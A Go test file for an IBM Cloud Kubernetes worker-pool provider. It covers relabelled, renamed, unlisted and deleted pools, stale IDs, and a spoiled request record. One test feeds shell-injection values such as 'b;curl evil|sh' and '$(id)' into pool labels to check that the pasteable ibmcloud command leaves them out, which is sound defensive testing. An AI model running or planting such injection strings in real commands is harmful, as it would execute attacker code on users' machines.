package iks_test

import (
	"context"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/rrpool/rrpool/cloud"
	"github.com/rrpool/rrpool/cloud/iks"
	"github.com/rrpool/rrpool/cloud/poolplan"
	"github.com/rrpool/rrpool/config/api/v1alpha1"
	"github.com/rrpool/rrpool/test/iksserver"
	"github.com/rrpool/rrpool/test/providertest"
)

const ownLabel = v1alpha1.PoolLabel + "=" + providertest.PoolName

func deletion(t *testing.T, p cloud.Provider) (cloud.Progress, error) {
	t.Helper()
	got, err := p.Delete(context.Background())
	if err == nil && got.Done {
		require.Empty(t, got.WaitingFor)
	}
	return got, err
}

func withoutPool(body []byte) []byte {
	var all []map[string]any
	_ = json.Unmarshal(body, &all) // the server's own answer
	body, _ = json.Marshal(slices.DeleteFunc(all, func(o map[string]any) bool {
		return o["poolName"] == providertest.PoolName || o["name"] == providertest.PoolName
	}))
	return body
}

// IBM's `worker-pool label set` replaces all labels. The pool, and what it costs, are there all the same.
func TestAPoolThatLosesItsLabelIsStillOurs(t *testing.T) {
	for _, generation := range both {
		t.Run(generation, func(t *testing.T) {
			w, before := settled(t, generation, spec(1))
			id, kept := poolID(w), observe(t, before)
			require.Equal(t, []string{id}, kept.IDs)
			w.SetPoolLabels(clusterID, providertest.PoolName, map[string]string{"team": "network", "ibm-cloud.kubernetes.io/x": "y"})
			mutations := w.Mutations()
			for name, p := range map[string]cloud.Provider{"as it was": before, "after a restart": w.provider(t, nil)} {
				want := spec(1)
				want.Known = []string{id}
				got, err := p.Observe(t.Context(), want)
				require.NoError(t, err, name)
				require.True(t, got.Exists && !got.Owned, name)
				require.Len(t, got.Workers, 3, "they are members still")
				command := "ibmcloud ks worker-pool label set --cluster " + clusterID + " --worker-pool " + id + " --label " + ownLabel + " --label team=network"
				require.Contains(t, got.Unmarked, command)
				require.NotContains(t, got.Unmarked, "ibm-cloud.kubernetes.io/x", "IBM's own labels stay")
				want.SizePerZone = 2
				err = refused(t, p, want, cloud.Conflict)
				require.ErrorContains(t, err, command)
				require.NotContains(t, err.Error(), "another poolName")
				progress, err := deletion(t, p)
				require.True(t, cloud.Is(err, cloud.Conflict), "%s: %+v %v", name, progress, err)
				require.ErrorContains(t, err, command)
			}
			require.Equal(t, mutations, w.Mutations())
			require.Empty(t, observe(t, w.provider(t, nil)).Unmarked, "who does not know its id cannot tell it from one of others")
			w.SetPoolLabels(clusterID, providertest.PoolName, map[string]string{v1alpha1.PoolLabel: providertest.PoolName, "team": "network"})
			settle(t, w, before, spec(1))
			require.Empty(t, observe(t, before).Unmarked)
		})
	}
}

// TestTheCommandHoldsNoTextForAShell: people paste it. What would not fit is left out, and not cut.
func TestTheCommandHoldsNoTextForAShell(t *testing.T) {
	w, p := settled(t, iksserver.VPC, spec(1))
	id := observe(t, p).ID
	bare := "ibmcloud ks worker-pool label set --cluster " + clusterID + " --worker-pool " + id + " --label " + ownLabel
	labels := map[string]string{"example.com/team": "net_1.a-b", "empty": ""}
	for i, hostile := range []string{"b;curl evil|sh", "$(id)", "`id`", "a b", "a\nid", "'", `"`, "a&b", "a>b", "*", "~", "-x", strings.Repeat("a", 64), "ü", apiKey} {
		labels["a"+strconv.Itoa(i)], labels[hostile] = hostile, "b"
	}
	w.SetPoolLabels(clusterID, providertest.PoolName, labels)
	got := observe(t, p).Unmarked
	require.True(t, strings.HasSuffix(got, ": "+bare+" --label empty= --label example.com/team=net_1.a-b"), got)
	require.Contains(t, got, "(30 of its labels are left out")

	clear(labels)
	for i := range 100 {
		labels["key"+strconv.Itoa(100+i)] = "value"
	}
	w.SetPoolLabels(clusterID, providertest.PoolName, labels)
	got = observe(t, p).Unmarked
	require.Regexp(t, ` of its labels are left out.*( --label key\d{3}=value){15,}$`, got)
	require.Less(t, len(got), 1000)
	require.ErrorContains(t, refused(t, p, spec(1), cloud.Conflict), got)

	w.Server.Inject(iksserver.Fault{Method: "GET", Path: "getWorkers$", Spoil: replaced(`"id":"kube-`, `"id":"$(id)kube-`)})
	_, err := p.Observe(t.Context(), spec(1))
	require.ErrorContains(t, err, "no id that can be one")
}

func TestAPoolThatIsListedUnderAnotherNameIsStillOurs(t *testing.T) {
	for _, generation := range both {
		w, p := settled(t, generation, spec(1))
		observe(t, p)
		w.Server.Inject(iksserver.Fault{Method: "GET", Spoil: replaced(`"`+providertest.PoolName+`"`, `"renamed"`)})
		got := observe(t, p)
		require.Equal(t, "renamed", got.Name)
		require.Contains(t, got.Unmarked, poolID(w))
		_ = refused(t, p, spec(1), cloud.Conflict)
		_, err := deletion(t, p)
		require.True(t, cloud.Is(err, cloud.Conflict), "%v", err)

		// Another poolName, while the pool of the former one is there.
		w.ClearFaults()
		renamed := w.provider(t, func(c *iks.Config) { c.PoolName = "another" })
		want := spec(1)
		want.Known = []string{poolID(w)}
		mutations := w.Mutations()
		got, err = renamed.Observe(t.Context(), want)
		require.NoError(t, err)
		require.Contains(t, got.Unmarked, "spec.provider.iks.poolName")
		require.ErrorContains(t, refused(t, renamed, want, cloud.Conflict), providertest.PoolName)
		for _, taken := range []string{"another", "another-b"} { // by pools of others, so that ours has the place of neither
			w.AddPool(clusterID, iksserver.Pool{Name: taken, SizePerZone: 1})
			_ = refused(t, renamed, want, cloud.Conflict)
		}
		require.Equal(t, mutations, w.Mutations(), "no second pool")
	}
}

// TestAPoolThatIsNotListedIsAskedForByItsID: it is there, or it is not known for a while, or it is gone for good.
func TestAPoolThatIsNotListedIsAskedForByItsID(t *testing.T) {
	unlisted := rewrite(poolList, 0, withoutPool)
	for _, generation := range both {
		for _, restarted := range []bool{false, true} {
			w, p := settled(t, generation, spec(1))
			id, mutations := poolID(w), w.Mutations()
			want := spec(1)
			want.Known = observe(t, p).IDs
			if restarted {
				p = w.provider(t, nil)
			}
			look := func() (cloud.Pool, error) { return p.Observe(t.Context(), want) }
			w.Server.Inject(unlisted)
			got, err := look()
			require.NoError(t, err)
			require.True(t, got.Owned)
			require.Len(t, got.Workers, 3)

			w.Server.Inject(iksserver.Fault{Method: "GET", Path: "getWorkerPool$", Status: 404, Body: `{"code":"E9004","description":"The specified worker pool could not be found."}`})
			for range 3 {
				_, err = look()
				require.True(t, cloud.Is(err, cloud.Unavailable), "%v", err)
				require.ErrorContains(t, err, id)
				_, err = deletion(t, p)
				require.True(t, cloud.Is(err, cloud.Unavailable), "%v", err)
				w.Advance(30 * time.Second)
			}
			w.ClearFaults()
			if restarted { // it is there again, listed or not: what was missed before counts no more
				w.Server.Inject(unlisted)
			}
			require.Equal(t, mutations, w.Mutations())
			got, err = look()
			require.NoError(t, err)
			require.True(t, got.Owned)

			w.RemovePool(clusterID, providertest.PoolName)
			w.Advance(10 * time.Minute)
			_, err = look()
			require.True(t, cloud.Is(err, cloud.Unavailable), "%v", err)
			w.Advance(3 * time.Minute)
			got, err = look()
			require.NoError(t, err)
			require.False(t, got.Exists)
			progress, err := deletion(t, p)
			require.NoError(t, err)
			require.True(t, progress.Done)
		}
	}
}

// TestAStaleIDHoldsNothingUp: what a former instance wrote down is gone at once where another pool of ours is listed, and
// for who looks but once; else it is waited for, for all of them at the same time.
func TestAStaleIDHoldsNothingUp(t *testing.T) {
	stale := []string{"gone-a", "gone-b", "gone-c"}
	for _, generation := range both {
		w, _ := settled(t, generation, spec(1))
		id, want := poolID(w), spec(1)
		want.Known = append([]string{id}, stale...)
		fresh := w.provider(t, nil)
		got, err := fresh.Observe(t.Context(), want)
		require.NoError(t, err)
		require.Len(t, got.Workers, 3)
		require.Equal(t, stale, got.Gone)
		require.True(t, ensure(t, fresh, want).Done)

		w.RemovePool(clusterID, providertest.PoolName)
		w.Advance(10 * time.Minute)
		_, err = fresh.Observe(t.Context(), want)
		require.True(t, cloud.Is(err, cloud.Unavailable), "it has seen that one itself: %v", err)

		fresh = w.provider(t, nil)
		want.Once = true
		got, err = w.provider(t, nil).Observe(t.Context(), want)
		require.NoError(t, err)
		require.False(t, got.Exists)
		_, err = fresh.Ensure(t.Context(), want)
		require.True(t, cloud.Is(err, cloud.Unavailable), "nothing is ordered by it: %v", err)
		want.Once = false
		_, err = fresh.Observe(t.Context(), want)
		require.True(t, cloud.Is(err, cloud.Unavailable), "%v", err)
		w.Advance(2 * time.Minute)
		got, err = fresh.Observe(t.Context(), want)
		require.NoError(t, err, "all of them were waited for at once")
		require.Equal(t, want.Known, got.Gone)
	}
}

// A service may say in several ways that it has no such pool: what a person has deleted is made again.
func TestAPoolIsGoneInWhateverWords(t *testing.T) {
	for _, generation := range both {
		for _, f := range []iksserver.Fault{
			{Status: 400, Body: `{"code":"E0013","description":"The worker pool ID is not valid."}`},
			{Status: 404, Body: "not found"},
		} {
			w, p := settled(t, generation, spec(1))
			id := poolID(w)
			w.RemovePool(clusterID, providertest.PoolName)
			w.Advance(10 * time.Minute)
			f.Method, f.Path = "GET", "getWorkerPool$"
			w.Server.Inject(f)
			_, err := p.Observe(t.Context(), spec(1))
			require.True(t, cloud.Is(err, cloud.Unavailable), "%v", err)
			require.Equal(t, poolplan.SettlePause/4, cloud.RetryAfter(err))
			w.Advance(poolplan.SettlePause)
			progress, err := p.Ensure(t.Context(), spec(1))
			require.NoError(t, err)
			require.Contains(t, progress.Did, "created", "%+v", progress)
			w.ClearFaults()
			settle(t, w, p, spec(1))
			require.NotEqual(t, id, poolID(w))
		}
	}
}

// note is a record of what was asked for, as a person or a tool leaves it.
type note string

func (n *note) Text() string                               { return string(*n) }
func (n *note) Write(_ context.Context, text string) error { *n = note(text); return nil }

// TestTheRecordIsSpoiled: without it what was asked for is remembered; one that cannot be read stops orders and removals only.
func TestTheRecordIsSpoiled(t *testing.T) {
	w := newWorld(t, iksserver.VPC)
	p, record := w.provider(t, nil), new(note)
	ctx := cloud.WithRecord(t.Context(), record)
	next := func(p cloud.Provider) (cloud.Progress, error) { return p.Ensure(ctx, spec(1)) }
	_, err := next(p)
	require.NoError(t, err)
	kept := *record
	require.NotEmpty(t, kept)
	look := func() string {
		_, err := p.Observe(ctx, spec(1))
		require.NoError(t, err)
		return record.Text()
	}
	*record = ""
	require.Empty(t, look(), "it may be a cache that is behind")
	*record = kept
	look()
	*record = ""
	require.Contains(t, look(), `"kind":"Create"`, "whoever replaced the object did not mean that")
	*record = ""
	w.Advance(5 * time.Minute)
	_, err = next(p)
	require.NoError(t, err)
	require.Contains(t, record.Text(), `"kind":"Create"`, "what was asked for before")

	*record = "{"
	w.Advance(5 * time.Minute)
	for _, p := range []cloud.Provider{p, w.provider(t, nil)} {
		got, err := p.Observe(ctx, spec(1))
		require.NoError(t, err)
		require.True(t, got.Owned)
		mutations := w.Mutations()
		_, err = next(p)
		require.ErrorContains(t, err, "kubectl annotate routereflectorpool default "+v1alpha1.RequestsAnnotation+"-")
		_, err = p.Delete(ctx)
		require.True(t, cloud.Is(err, cloud.InvalidInput), "%v", err)
		require.Equal(t, mutations, w.Mutations())
	}
	*record = ""
	_, err = next(p)
	require.NoError(t, err)
}

// What is paid are workers, and they may be there for longer than their pool: they are waited for, by name, while that can be of use.
func TestADeletionWaitsForTheWorkersOfThePool(t *testing.T) {
	for _, generation := range both {
		w, p := settled(t, generation, spec(1))
		renamed := strings.NewReplacer(`"old"`, `"`+poolID(w)+`"`, providertest.PoolName, "another").Replace(leftover)
		_, err := deletion(t, p)
		require.NoError(t, err)
		w.Server.Inject(iksserver.Fault{Path: workerList, Spoil: also(renamed, strings.ReplaceAll(leftover, "kube-old", "kube-former"))})
		w.Advance(3 * time.Minute)
		for range 9 {
			got, err := deletion(t, p)
			require.NoError(t, err)
			require.False(t, got.Done)
			require.Contains(t, got.WaitingFor, "worker kube-old")
			require.Contains(t, got.WaitingFor, "worker kube-former")
			require.Contains(t, got.WaitingFor, map[string]string{iksserver.VPC: "(Incorrect account for worker)", iksserver.Classic: "(deleting)"}[generation])
			w.Advance(3 * time.Minute)
		}
		w.Advance(10 * time.Minute)
		got, err := deletion(t, p)
		require.NoError(t, err)
		require.True(t, got.Done, "%+v", got)
	}
}
